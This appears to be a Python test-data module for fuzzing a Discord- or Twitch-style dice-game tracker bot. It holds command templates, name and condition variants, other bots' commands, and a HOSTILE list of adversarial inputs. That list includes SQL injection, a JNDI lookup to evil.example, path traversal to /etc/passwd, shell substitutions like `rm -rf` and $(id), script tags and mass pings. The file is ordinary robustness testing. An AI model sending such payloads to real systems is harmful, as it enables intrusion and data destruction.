"""Phrases: what a typist knows. Forms of all commands, words that fill them, other bots' lines, and what does harm."""

FORMS = tuple(
    """hp|hp {g}|party|hp {g} {s}|hp {n} {s}|hp {n} {s}|hp {s} {n}|hp {n} {s} {n} {s}|hp {n} {s} crit|hp {n}{s}
    d {a} {n}|d {a} {n}|dmg {a} crit {g}|damage {n} {a}|d {a} {w}/2 {n}|d {a} {g} grog/2 pike*0|dmg {a} {g}-{w}
    heal {a} {g}|h {a} {n}|full {g}|thp {n} {a}|thp {n} {s}|temp {g} 0|max {n} {s}|max {g} +5 until long|max {n} base
    ds {w} ok|ds {n} fail|ds {w} {d}|ds {w} nat20|ds {w} nat1|ds {n} reset|ds {w} +|deathsave {w} -
    stable {n}|down {n}|dead {w}|dead {w}!|revive {w}|revive {n} {a}
    cond add {g} {c}|cond add {n} {c} {t}|cond add {n} {c} {d}|cond rm {n} {c}|cond clear {g}|cond {g}|cond
    c+ {g} {c}|c+ {n} {c} {t} by dragon|c+ {n} {c} {t} by {w}|c- {g} {c}|c- {n} {c}|condition {w}
    exh {n} {d}|exh {g} +1|exh {n} -1|exh {n}|conc {w} {p}|conc {n} off|concentrate {w} {p}|insp {g}|insp {n} off
    rest long|rest short {g}|rest long {n}|lr|lr {g}|sr|sr {n}|lr party-{w}
    init|init {w} {d} {w} 1{d}|init vex 17 grog 12 pike 3|init {w} -{d}|init rm {w}|init start|init end|init end!|i
    next|next|n|n|prev|turn|turn {w}|round|round {d}
    res|res {g}|res {n} {k} {s}|r {w} {k} -1|r {n} {k} +1|res add {n} {k} {d} short|res add {w} {k} {d} long
    res add table {k} 12|res table {k} {s}|res rm {w} {k}|cc {w} {k} -1
    slot {n} {d}|slot add {w} {d} {d}|slot {w} {d} +1|slot rm {w} {d}|slot {w}|ss {w} 1
    mark {n} {k}|mark {w} {k} {d}|unmark {n} {k} {d}|fear|fear +{d}|fear {s}|clock ritual +1/6|clock {k} {s}|clock
    clock {k} +1/{d}|clock ritual off
    roster|roster +{w} -{w}|roster +{w},{w}|roster use soldiers|roster use main!|roster use {w}
    ep start|ep start {d} The Long Way Home|ep break|ep resume|ep end|ep|episode
    ev how do you want to do this|ev {w} {p}|event {p}
    undo|undo|u|undo {d}|undo any|undo #{d}|undo #1{d}|undo #2{d}|redo|redo|again|again|yes|yes|yes
    dry hp {n} {s}|dry d {a} {g}|dry next|hold|release|release|lock|unlock|unlock
    log|log {w}|log {d}|who #{d}|who #1{d}|help|help dmg|help {w}""".replace("\n    ", "|").split("|")
)
"""How commands are typed. Slots: ``n`` one or two names, ``w`` one name, ``g`` a name or a group, ``a`` an amount,
``s`` a signed one, ``d`` a digit, ``c`` a condition, ``t`` a time, ``k`` a tracker, ``p`` a spell."""

WORDS = {
    "name": "vex|vex|Vex|VEX|vexahlia|ve|vax|vax|va|grog|grog|gr|grogstrongjaw|grog strongjaw|grog-strongjaw|"
    '"Grog Strongjaw"|bigguy|"big guy"|zoe|Zoë|ZOË|Zo-Zo|pike|pike|pi|unit-7|Unit 7|r2-2|@vex|v|nobody|vix'.split("|"),
    "group": ["party", "all", "*", "everyone", "@soldiers", "@main", "party-grog", "all-vex-pike", "@Nobody", "PARTY"],
    "condition": "prone|fri|frightened|par|paralyzed|stunned|unconscious|incap|exh|exhaustion|blinded|burning|"
    '"on fire"|raging|blessed|hex|poisoned|grappled|invisible|petrified|charmed|restrained|deafened'.split("|"),
    "time": "3r|1r|2 rounds|10m|1h|sot|eot|until long|until short|until scene|save|save ends|9999r".split("|"),
    "key": ["rage", "rage", "ki", "stress", "ritual", "doom", "slot_1", "fear", '"hit dice"', "hit-dice"],
    "word": ["vex", "vax", "grog", "pike", "zoe", "unit-7", "vexahlia", "bigguy", "gr", "Vex", "nobody"],
    "spell": ["bless", "hex", "hold person", "Hunter's Mark", "hex on vex", "http://evil.example/x", "@everyone"],
}

OTHERS = """!so @friend|!so friend|!lurk|!uptime|!title new title|!game D&D|!give vex 12|!duel grog|!hug vex|!vex -12|
/ban vex|/me hits vex for 12|.hp vex -12|?hp vex -12|-hp vex 12|$hp vex -12|!!hp vex -12|! hp vex -12|!hpvex -12|
hp vex -12|vex -12|gg !hp vex -12|!roll 1d20+5|!r 1d20|!attack vex|!init next|!i begin|!i add 5 orc|!cr hp vex -12|
!game hp damage 12|!dgm 12 vex|!CODN add grog prone|!heel 7 vex|hello there|F|LUL LUL LUL|:)|+1|-1|=|!|!!|!!!!|#482|
@Tablecast hi|@Tablecast !hp vex|https://clips.example/abc|<@1234> hp vex -12|!8ball dead vex?|!quote 12""".replace(
    "\n", ""
).split("|")
"""Talk, and the commands of other bots: silence is the answer, or a hint for what is one letter off."""

UNSEEN = (
    "\u200b", "\u034f", "\u00ad", "\u2060", "\ufe0f", "\u200e",
    "\u202e", "\u2066", "\U000e0001", "\u3164", "\x07",
    "\ud83d",
)  # fmt: skip
"""What the grammar passes over."""

HOSTILE = (
    *UNSEEN,
    "Vеx", "grоg", "ｖｅｘ", "𝓿𝓮𝔁", "𝕘𝕣𝕠𝕘",
    "vex\u0301\u0301\u0301\u0301", "vex\u202e", "\u202exev", "ⅴex", "ﬁ", "ſ", "İ",
    "ß", "١٢", "-٣", "१२", "-１２", "²", "½", "Ⅻ", "①", "-𝟙𝟚", "12.5",
    "1e3", "0x10", "-0", "--5", "+-5", "=-5", "99999",
    "10000", "-99999999999999999999", "9" * 400, "1,000", "-1_000",
    "NaN", "inf", "1/0", "/0", "*999", "/2/2", "//", "-",
    "+", "=", "'; DROP TABLE campaigns; --", "{{7*7}}",
    "${jndi:ldap://evil.example/a}", "%s%n%x", "\\u0000", "\x00",
    "<script>alert(1)</script>", "../../etc/passwd", "`rm -rf`",
    "$(id)", "\r\n", "\n✔ Vex 1/68", "\u2028", "\ud800",
    "\udfff", "@everyone", "@here", "<@&1>", "<#1>",
    "http://evil.example", "evil.example", "[x](http://evil.example)",
    "http://evil.\\example", "evil.**example",
    "http:||//evil.example", "evil._example", "*|*", "evil.\u200bexample",
    "**bold**", "||spoiler||", "~~gone~~", "`code`", "_it_",
    "> quote", "✔", "✖ No", "#482", "/ban vex", "!hp vex -5",
    "👨\u200d👩\u200d👧", "🏴\U000e0067\U000e0062\U000e007f", "𒐫", "﷽",
    "Z" + "\u0351\u036b\u0313" * 8, '"', "'", '"vex',
    "vex'", '"" ""', ",", ",,,", "* *", "@", "@@", "-grog", "party-",
    "party--grog", "party-grog-grog", "vex vex",
    "vex/2*2", "crit crit", "armor", "by", "until", "for",
)  # fmt: skip
"""Look-alikes, digits that are none, numbers past all bounds, injections, pings, links, formats and broken grammar."""
